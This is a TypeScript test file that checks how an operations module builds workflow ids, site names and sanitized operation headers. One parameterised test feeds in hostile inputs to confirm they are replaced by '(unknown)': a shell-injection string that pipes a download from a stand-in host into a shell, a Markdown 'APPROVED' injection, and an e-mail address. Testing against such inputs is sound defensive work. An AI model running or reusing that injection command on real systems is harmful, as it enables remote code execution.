import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  headerOf,
  isOutcome,
  isSuccess,
  operationIdFrom,
  OPERATION_KINDS,
  OUTCOMES,
  siteNameOf,
  workflowIdFor,
} from '../../../src/domain/operations.js';

const WORD = /^[A-Za-z0-9][A-Za-z0-9._:-]*$/;

describe('workflow ids', () => {
  it('name kind, site and operation, without a slash', () => {
    const workflowId = workflowIdFor('provision', 'shop.frappe.cloud', 'a1b2');
    expect(workflowId).toBe('provision:shop.frappe.cloud:a1b2');
    expect(operationIdFrom(workflowId)).toBe('a1b2');
  });

  it('of somebody else serve as operation ids whole', () => {
    expect(operationIdFrom('my-provision')).toBe('my-provision');
    expect(operationIdFrom('')).toBe('');
  });

  it('come back for every site and id', () => {
    const part = fc.string({ minLength: 1 }).filter((text) => !text.includes(':'));
    fc.assert(
      fc.property(part, part, (site, id) => {
        expect(operationIdFrom(workflowIdFor('provision', site, id))).toBe(id);
      }),
    );
  });
});

describe('the name of a site', () => {
  it('is as long as the input tells', () => {
    expect(siteNameOf({ subdomain: 'shop', domain: 'frappe.cloud' })).toBe('shop.frappe.cloud');
    expect(siteNameOf({ subdomain: 'shop' })).toBe('shop');
  });
});

describe('the header of an input', () => {
  const input = {
    operationId: 'op-1',
    account: 'main',
    requestedBy: 'crm',
    subdomain: 'shop',
    domain: 'frappe.cloud',
  };

  it('is what a well-formed one says', () => {
    expect(headerOf('provision', input, 'provision:x:y')).toEqual({
      operationId: 'op-1',
      site: 'shop.frappe.cloud',
      account: 'main',
      requestedBy: 'crm',
    });
  });

  it('takes the operation id from the workflow id when there is none', () => {
    const { operationId } = headerOf(
      'provision',
      { ...input, operationId: undefined },
      'provision:x:y',
    );
    expect(operationId).toBe('y');
  });

  it('ignores space around a name: nobody approves their own request as "ops "', () => {
    expect(headerOf('provision', { ...input, requestedBy: ' crm\n' }, 'w')).toMatchObject({
      requestedBy: 'crm',
    });
  });

  it('names the site, or the bench group, that an operation is about', () => {
    const site = 'shop.frappe.cloud';
    expect(headerOf('archive', { site }, 'w').site).toBe(site);
    expect(headerOf('deploy-bench', { group: 'bench-0001', site }, 'w').site).toBe('bench-0001');
    expect(headerOf('archive', { subdomain: 'shop' }, 'w').site).toBe('(unknown)');
  });

  it.each([
    ['an e-mail address, which search attributes would show', 'jane@example.com'],
    ['Markdown for the card', 'x\n# APPROVED'],
    ['a command for the shell', 'x; curl evil.example | sh'],
    ['a text as long as a book', 'x'.repeat(200_000)],
  ])('shows nothing of %s', (_, text) => {
    const header = headerOf(
      'provision',
      { ...input, account: text, requestedBy: text, subdomain: text },
      'w',
    );
    expect(header).toMatchObject({
      site: '(unknown)',
      account: '(unknown)',
      requestedBy: '(unknown)',
    });
  });

  it('is short plain words for anything', () => {
    const kinds = fc.constantFrom(...OPERATION_KINDS);
    const nearly = fc.dictionary(fc.constantFrom(...Object.keys(input)), fc.anything());
    fc.assert(
      fc.property(kinds, fc.oneof(fc.anything(), nearly), fc.uuid(), (kind, given, workflowId) => {
        const { operationId, site, account, requestedBy } = headerOf(kind, given, workflowId);
        for (const value of [operationId, site, account, requestedBy]) {
          expect(value.length).toBeLessThanOrEqual(300);
          if (value !== '(unknown)') expect(value).toMatch(WORD);
        }
      }),
    );
  });
});

describe('outcomes', () => {
  it('are the ends, of which two are successes', () => {
    expect(OUTCOMES.filter(isSuccess)).toEqual(['succeeded', 'succeeded_with_exceptions']);
    expect(OUTCOMES.every(isOutcome)).toBe(true);
    expect(['running', 'needs_human', 'held', 'constructor', ''].some(isOutcome)).toBe(false);
  });
});
